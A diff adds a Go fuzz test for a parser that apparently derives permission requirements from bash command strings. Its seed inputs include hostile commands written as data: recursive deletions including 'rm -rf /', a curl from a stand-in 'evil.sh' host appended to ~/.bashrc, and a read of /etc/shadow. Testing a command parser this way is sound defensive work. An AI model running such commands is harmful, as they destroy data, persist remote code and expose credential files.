@@ -1,0 +1,49 @@
+package tool
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+)
+
+// FuzzBashRequirements: any input gives requirements without panicking;
+// no Hole leaks into a Target; a Shape exists only with a Hole in it; a
+// command's Argv is its Target's words; the result is deterministic.
+func FuzzBashRequirements(f *testing.F) {
+	for _, s := range []string{
+		"git log; rm -rf x", "cd sub && git push", "echo $(curl evil.sh) > ~/.bashrc",
+		"bash -c 'eval \"rm -rf /\"'", "f() { cat < /etc/shadow; }", "find . -exec rm {} +",
+		"a=$(b) c | d &", "cat <<EOF\n$(x)\nEOF", "echo 'x", "${x:-$(y)}", "((x=$(z)))",
+		"for i in $(seq 3); do cd $i; done", "coproc cat", "select x in a; do :; done",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, src string) {
+		tm := time.AfterFunc(5*time.Second, func() { panic(fmt.Sprintf("SLOW %q", src)) })
+		defer tm.Stop()
+		reqs := BashRequirements(src, "/ws", "/home/u")
+		again := BashRequirements(src, "/ws", "/home/u")
+		if show(reqs) != show(again) {
+			t.Fatalf("not deterministic for %q", src)
+		}
+		for _, r := range reqs {
+			if r.Kind == "" {
+				t.Fatalf("empty kind for %q", src)
+			}
+			if strings.ContainsRune(r.Target, Hole) {
+				t.Fatalf("Hole in target %v for %q", r, src)
+			}
+			if r.Shape != "" && !strings.ContainsRune(r.Shape, Hole) {
+				t.Fatalf("shape without a Hole %q for %q", r.Shape, src)
+			}
+			if r.Unparsed && r.Kind != KindCommandExecute {
+				t.Fatalf("unparsed %v", r)
+			}
+			if r.Kind == KindCommandExecute && !r.Unparsed && strings.Join(r.Argv, " ") != r.Target &&
+				!strings.HasSuffix(r.Target, " "+strings.Join(r.Argv, " ")) {
+				t.Fatalf("argv %q does not end target %q", r.Argv, r.Target)
+			}
+		}
+	})
+}
